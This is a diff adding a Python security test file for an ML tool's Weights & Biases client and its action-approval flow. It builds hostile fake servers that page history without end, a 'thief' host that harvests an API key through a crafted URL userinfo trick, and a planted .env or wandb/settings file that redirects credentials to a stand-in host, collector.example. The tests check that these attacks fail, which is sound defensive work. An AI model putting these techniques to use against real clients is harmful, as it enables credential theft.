@@ -1,0 +1,145 @@
+"""Issue 14's twentieth round: attacks from outside on the W&B client path (a fake W&B server that never stops paging, hands
+out file URLs on other hosts), on the time between a question and its action, and fresh ones on every promise.
+
+Each test is one family of attacks that broke a claim of docs/security.md, driven through a real MCP client over stdio or the
+CLI in a child process, with real processes, files and local fakes of a tracker's wire API; each failed on the code before
+its fix (see docs/security.md, "Twentieth round").
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import sys
+import threading
+import time
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import anyio
+import pytest
+from mcp import types
+
+from tests.collectors.conftest import check_failed_run
+from tests.collectors.wandb_fake import FakeRun, FakeWandb
+from tests.security.test_actions_attacks import call, restart, roots, srv_for
+
+pytestmark = pytest.mark.slow  # real child processes and servers
+
+KEY = "0123456789abcdef0123456789abcdef01234567"
+
+
+class _HostileWandb(FakeWandb):
+    """The loopback W&B fake, with one answer turned hostile: `last_step` names the run's last step, `page` fills a history
+    page from its first step, `file_url` gives each file's download URL from the host the client called."""
+
+    def __init__(self, last_step: int | None = None, page: Any = None, file_url: Any = None) -> None:
+        super().__init__(KEY)
+        self.last_step, self.page, self.file_url = last_step, page, file_url
+        self.runs["r1"] = FakeRun("crashed", {}, [{"_step": 0, "loss": 1.0}], {"output.log": b"step 0 loss 1.0\n"})
+
+    def answer(self, op: str, v: dict[str, Any], host: str) -> Any:
+        a = super().answer(op, v, host)
+        run = (a.get("project") or {}).get("run") if isinstance(a, dict) else None
+        if run and self.last_step is not None and op in ("Run", "RunHistoryKeys"):
+            run["historyKeys"]["lastStep"] = self.last_step
+        if run and self.page is not None and op == "HistoryPage":
+            run["history"] = [json.dumps(r) for r in self.page(int(v["minStep"]))]
+        if run and self.file_url is not None and op == "RunFiles":
+            for e in run["files"]["edges"]:
+                e["node"]["url"] = e["node"]["directUrl"] = self.file_url(host, e["node"]["name"])
+        return a
+
+
+@pytest.mark.parametrize("page", [lambda lo: [], lambda lo: [{"_step": lo, "loss": 1.0}]], ids=["empty-pages", "one-row-pages"])
+def test_a_wandb_server_whose_history_pages_never_end_is_cut_at_the_deadline(tmp_path: Path, page: Any) -> None:
+    """Promise 7: a remote source fails within its deadline, with partial evidence. The W&B client pages a run's history by
+    step range up to the last step the server names, and goes on past empty pages. A server naming a last step of 10**12
+    over empty pages kept `check-failed-run --wandb` asking for pages with no row to check the deadline on: still running
+    past 60 s with a 4 s deadline, and it would have sent about 10**9 requests. Over pages of one row, the deadline was
+    checked every 1,000 rows: 45 s with a 5 s deadline. Now it is checked before every page and after every row."""
+    with _HostileWandb(last_step=10**12, page=page) as fake:
+        t0 = time.monotonic()
+        proc, report = check_failed_run("--wandb", "team/proj/r1", "--format", "json", out=tmp_path,
+                                        env={"WANDB_API_KEY": KEY, "WANDB_BASE_URL": fake.url, "ML_SKILLS_TRACKER_TIMEOUT": "4"})
+        took = time.monotonic() - t0
+    assert proc.returncode == 0, proc.stderr
+    assert took < 30, f"{took:.0f} s with a 4 s deadline"
+    assert report is not None and "stopped at the 4s deadline" in json.dumps(report), json.dumps(report)[:2000]
+
+
+@pytest.fixture
+def thief() -> Iterator[tuple[str, list[str]]]:
+    """A second loopback host (127.0.0.2) that records every Authorization header sent to it."""
+    seen: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def log_message(self, *a: Any) -> None:
+            pass
+
+        def do_GET(self) -> None:
+            seen.append(self.headers.get("Authorization") or "")
+            body = b"step 0 loss nan\n"
+            self.send_response(200)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+    httpd = ThreadingHTTPServer(("127.0.0.2", 0), Handler)
+    threading.Thread(target=httpd.serve_forever, daemon=True).start()
+    yield f"127.0.0.2:{httpd.server_address[1]}", seen
+    httpd.shutdown()
+    httpd.server_close()
+
+
+def test_the_wandb_key_is_never_sent_to_a_file_url_on_another_host(tmp_path: Path, thief: tuple[str, list[str]]) -> None:
+    """Promise 3: secrets never leave the server. The W&B API key goes with a file download only to the W&B server itself
+    (`collectors/wandb._files`); that was decided by a string prefix, so a file URL `http://<W&B host:port>@127.0.0.2:P/...`
+    (the W&B address as the URL's user, another host behind it; or `https://api.wandb.ai.elsewhere/`) got the key as Basic
+    auth, read here by a second loopback server. Now the scheme, host and port must be the W&B server's, with no user."""
+    where, seen = thief
+    with _HostileWandb(file_url=lambda host, name: f"http://{host}@{where}/f/{name}") as fake:
+        proc, _ = check_failed_run("--wandb", "team/proj/r1", out=tmp_path, env={"WANDB_API_KEY": KEY, "WANDB_BASE_URL": fake.url})
+    assert proc.returncode == 0, proc.stderr
+    assert seen, "the file was never fetched"
+    stolen = [base64.b64decode(h.split()[1]).decode(errors="replace") for h in seen if h.startswith("Basic ")]
+    assert not any(KEY in s for s in stolen), stolen
+
+
+@pytest.mark.parametrize("plant", ["env", "wandb-settings"])
+@pytest.mark.parametrize("mode", ["legacy", "auto"])
+def test_a_restart_never_runs_after_its_folder_starts_sending_credentials_elsewhere_while_the_person_reads(
+        tmp_path: Path, plant: str, mode: str) -> None:
+    """Promise 2: the person approves exactly the action. A restart's "Expected impact" names the W&B server a run folder's
+    `wandb/settings` sets and the routing variables its `.env` sets (sixteenth and seventeenth rounds), but the approval was
+    bound to the command line only: a `.env` setting `WANDB_BASE_URL`, or a `wandb/settings` with a `base_url`, written
+    while the person read a question that named neither, and the restart ran (legacy elicitation: checked again only the
+    command; 2026-07-28 protocol: the fingerprint did not change). Now the folder's routes are part of the fingerprint and
+    checked again right before the start: the legacy call starts nothing, and the newer protocol asks again, naming them."""
+    r, _ = roots(tmp_path)
+    run = r / "run"
+    run.mkdir()
+    (run / "train.py").write_text("open('started', 'w').write('yes')\n")
+    (run / "command.txt").write_text(f"{sys.executable} train.py\n")
+    shown: list[str] = []
+
+    async def person(ctx: Any, params: Any) -> types.ElicitResult:
+        shown.append(params.message)
+        if plant == "env":
+            (run / ".env").write_text("WANDB_BASE_URL=https://collector.example\n")
+        else:
+            (run / "wandb").mkdir(exist_ok=True)
+            (run / "wandb" / "settings").write_text("[default]\nbase_url = https://collector.example\n")
+        return types.ElicitResult(action="accept", content={"approve": True})
+
+    res = anyio.run(call, srv_for(tmp_path, r), "request_action", restart(run / "command.txt"), person, mode)
+    time.sleep(1)
+    told = ["WANDB_BASE_URL" in q or "collector.example" in q for q in shown]
+    assert told[0] is False
+    if (run / "started").exists():  # it may run only after a question that named where the credentials now go
+        assert told[-1], (res.structured_content, shown)
+    else:
+        assert res.structured_content["outcome"] == "failed", res.structured_content
+        assert "now sends the run's credentials elsewhere" in res.structured_content["detail"]
